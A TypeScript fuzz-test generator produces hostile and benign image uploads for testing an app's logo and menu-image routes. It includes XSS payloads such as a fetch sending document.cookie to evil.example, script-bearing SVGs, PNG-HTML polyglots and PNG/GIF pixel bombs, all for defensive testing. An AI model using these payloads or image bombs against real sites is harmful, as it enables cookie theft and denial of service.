/**
 * Generated upload files for the fuzz of the routes that confirm an uploaded image (PUT .../branding/logo and
 * PUT .../menu-items/{itemId}/image), each uploaded for real with the route's presigned form first (issue 24): SVGs
 * that try to run or fetch something (script in other namespaces, xml-stylesheet, CSS escapes, url( many times,
 * data: images, huge filters, event handlers), a PNG header followed by HTML, truncated PNGs, pixel-bomb headers
 * (PNG and GIF canvases far over the pixel limit), and benign PNGs and SVG drawings. Each carries whether a logo
 * confirm may accept it (200, and then only as a PNG it wrote); the rest must be refused (4xx), nothing gets a 5xx.
 */
import fc from 'fast-check';
import { deflateSync } from 'node:zlib';
import { pngChunk, solidPng } from '../png';

export interface UploadBody {
  /** The family it was drawn from (for reports and stats). */
  family: string;
  bytes: Buffer;
  /** The type the browser declares for it. */
  contentType: string;
  /**
   * Whether a logo confirm may accept it (200): a benign image, or an SVG whose only harm is in what a rasterizer
   * ignores (elements of another namespace, event attributes, references to itself), since every SVG logo is turned
   * into a PNG; false: it must be refused (4xx). A menu photo must be a raster image: every SVG is refused there.
   */
  logoMayAccept: boolean;
}

const SVG_NS = 'http://www.w3.org/2000/svg';
const XHTML_NS = 'http://www.w3.org/1999/xhtml';
const svg = (inner: string, attrs = '') => `<svg xmlns="${SVG_NS}" viewBox="0 0 10 10"${attrs}>${inner}</svg>`;
const body = (family: string, text: string | Buffer, contentType: string, logoMayAccept = false): UploadBody => ({
  family,
  bytes: typeof text === 'string' ? Buffer.from(text) : text,
  contentType,
  logoMayAccept,
});

const prefix = fc.stringMatching(/^[a-z][a-z0-9]{0,5}$/).filter((p) => !p.startsWith('xml'));
const colour = fc.integer({ min: 0, max: 0xffffff }).map((n) => `#${n.toString(16).padStart(6, '0')}`);
const payload = fc.constantFrom('alert(document.domain)', 'fetch("//evil.example/"+document.cookie)', 'top.location="//evil.example"');

/** Some letters of `word` written as CSS escapes (`\69`, `\000072 `), at least one. */
const cssEscaped = (word: string) =>
  fc.array(fc.boolean(), { minLength: word.length, maxLength: word.length }).chain((picks) =>
    fc.constantFrom('', '0000', '00').map((pad) => {
      const escapeAt = picks.some(Boolean) ? picks : picks.map((_, i) => i === 0);
      return [...word].map((c, i) => (escapeAt[i] ? `\\${pad}${c.charCodeAt(0).toString(16)}${pad ? ' ' : ''}` : c)).join('');
    }),
  );

const scriptInNamespace = fc
  .tuple(prefix, fc.constantFrom(SVG_NS, XHTML_NS), payload, fc.constantFrom('script', 'SCRIPT', 'iframe', 'object'))
  .map(([p, ns, js, el]) =>
    body('svg: script in another namespace', svg(`<${p}:${el} xmlns:${p}="${ns}">${js}</${p}:${el}><circle r="4"/>`), 'image/svg+xml', ns !== SVG_NS),
  );

const eventHandler = fc
  .tuple(fc.constantFrom('onload', 'onclick', 'OnLoad', 'onbegin'), payload)
  .map(([attr, js]) => body('svg: event handler', svg(`<circle r="4" ${attr}="${js}"/>`), 'image/svg+xml', true));

const xmlStylesheet = fc
  .tuple(fc.constantFrom('text/css', 'text/xsl'), fc.constantFrom('data:text/css,svg{background:url(//evil.example/x)}', '//evil.example/s.css', '#s'))
  .map(([type, href]) => body('svg: xml-stylesheet', `<?xml version="1.0"?>\n<?xml-stylesheet type="${type}" href="${href}"?>\n${svg('<rect width="5" height="5"/>')}`, 'image/svg+xml'));

const cssEscapes = fc
  .tuple(fc.constantFrom('import', 'url'), fc.constantFrom('//evil.example/x.css', 'data:image/png;base64,iVBORw0KGgo='))
  .chain(([word, target]) =>
    cssEscaped(word).map((escaped) => {
      const css = word === 'import' ? `@${escaped} "${target}";` : `rect{fill:${escaped}(${target})}`;
      return body(`svg: CSS escape (${word})`, svg(`<style>${css}</style><rect width="5" height="5"/>`), 'image/svg+xml');
    }),
  );

/** The probe's document: a <style> followed by `url(` many times (up to past the SVG size cap). */
const manyUrls = fc
  .tuple(fc.integer({ min: 1, max: 70_000 }), fc.constantFrom('url(', 'url(#a', 'u\\72l('))
  .map(([n, piece]) => body('svg: url( many times', `<svg xmlns="${SVG_NS}"><style>${piece.repeat(n)}</style></svg>`, 'image/svg+xml', piece === 'url(#a'));

const dataImage = fc
  .tuple(fc.constantFrom('image', 'feImage', 'use'), fc.constantFrom('href', 'xlink:href'), fc.constantFrom('image/svg+xml', 'image/png', 'text/html'))
  .map(([el, attr, type]) => {
    const inner = Buffer.from(type === 'image/png' ? solidPng(2, 2, '#000000') : svg('<script>alert(1)</script>')).toString('base64');
    const element = el === 'feImage' ? `<filter id="f"><feImage ${attr}="data:${type};base64,${inner}"/></filter>` : `<${el} ${attr}="data:${type};base64,${inner}" width="10" height="10"/>`;
    return body('svg: data: image', svg(element, ' xmlns:xlink="http://www.w3.org/1999/xlink"'), 'image/svg+xml');
  });

const hugeFilter = fc
  .tuple(fc.integer({ min: 1, max: 200 }), fc.constantFrom('1e9', '100000', '999'), fc.integer({ min: 10, max: 100_000 }))
  .map(([blurs, deviation, size]) => {
    const filters = Array.from({ length: blurs }, () => `<feGaussianBlur stdDeviation="${deviation}"/><feTurbulence baseFrequency="0.9" numOctaves="1000000"/>`);
    return body('svg: huge filter', svg(`<filter id="f">${filters.join('')}</filter><rect width="10" height="10" filter="url(#f)"/>`, ` width="${size}" height="${size}"`), 'image/svg+xml');
  });

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A 1-bit greyscale PNG of this canvas: its header, and `rows` rows of zeros (all of them: a valid image). */
function bilevelPng(width: number, height: number, rows = height): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const data = deflateSync(Buffer.alloc((1 + Math.ceil(width / 8)) * rows), { level: 9 });
  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', header), pngChunk('IDAT', data), pngChunk('IEND', Buffer.alloc(0))]);
}

const pngThenHtml = fc
  .tuple(fc.integer({ min: 8, max: 33 }), payload)
  .map(([keep, js]) =>
    body('PNG header then HTML', Buffer.concat([solidPng(1, 1, '#000000').subarray(0, keep), Buffer.from(`<html><body><script>${js}</script></body></html>`)]), 'image/png'),
  );

const truncatedPng = fc
  .tuple(fc.integer({ min: 2, max: 64 }), fc.integer({ min: 2, max: 64 }), fc.double({ min: 0.05, max: 0.95, noNaN: true }))
  .map(([w, h, fraction]) => {
    // Cut before the second half of the compressed pixels (signature 8 + IHDR 25 + IDAT's length and type 8 bytes):
    // pixels are missing. A cut after them (in the IEND chunk) leaves a whole picture, which may be accepted.
    const whole = solidPng(w, h, '#0B3D2E');
    const pixelsEnd = 41 + Math.floor(whole.readUInt32BE(33) / 2);
    return body('truncated PNG', whole.subarray(0, Math.max(8, Math.floor(pixelsEnd * fraction))), 'image/png');
  });

/** A PNG canvas far over the pixel limit: the header and its first few rows (or all rows when narrow enough). */
const pngBomb = fc
  .tuple(fc.integer({ min: 8_000, max: 65_535 }), fc.integer({ min: 8_000, max: 65_535 }), fc.boolean())
  .map(([w, h, complete]) => body('pixel bomb (PNG)', bilevelPng(w, h, complete && w * h <= 20_000 * 20_000 ? h : 16), 'image/png'));

/** A GIF whose screen and image claim a canvas far over the pixel limit. */
const gifBomb = fc.tuple(fc.integer({ min: 8_000, max: 65_535 }), fc.integer({ min: 8_000, max: 65_535 })).map(([w, h]) => {
  const le = (n: number) => [n & 0xff, n >> 8];
  const bytes = [...Buffer.from('GIF89a'), ...le(w), ...le(h), 0, 0, 0, 0x2c, 0, 0, 0, 0, ...le(w), ...le(h), 0, 2, 2, 0x44, 0x01, 0, 0x3b];
  return body('pixel bomb (GIF)', Buffer.from(bytes), 'image/gif');
});

const benignPng = fc
  .tuple(fc.integer({ min: 1, max: 600 }), fc.integer({ min: 1, max: 600 }), colour)
  .map(([w, h, c]) => body('benign PNG', solidPng(w, h, c), 'image/png', true));

const benignSvg = fc
  .tuple(colour, fc.integer({ min: 1, max: 5 }))
  .map(([c, r]) => body('benign SVG', `<?xml version="1.0"?>\n${svg(`<circle cx="5" cy="5" r="${r}" fill="${c}"/>`)}`, 'image/svg+xml', true));

/** Every family, the hostile ones weighted over the benign. */
export const uploadBodyArbitrary: fc.Arbitrary<UploadBody> = fc.oneof(
  scriptInNamespace,
  eventHandler,
  xmlStylesheet,
  cssEscapes,
  manyUrls,
  dataImage,
  hugeFilter,
  pngThenHtml,
  truncatedPng,
  pngBomb,
  gifBomb,
  benignPng,
  benignSvg,
);
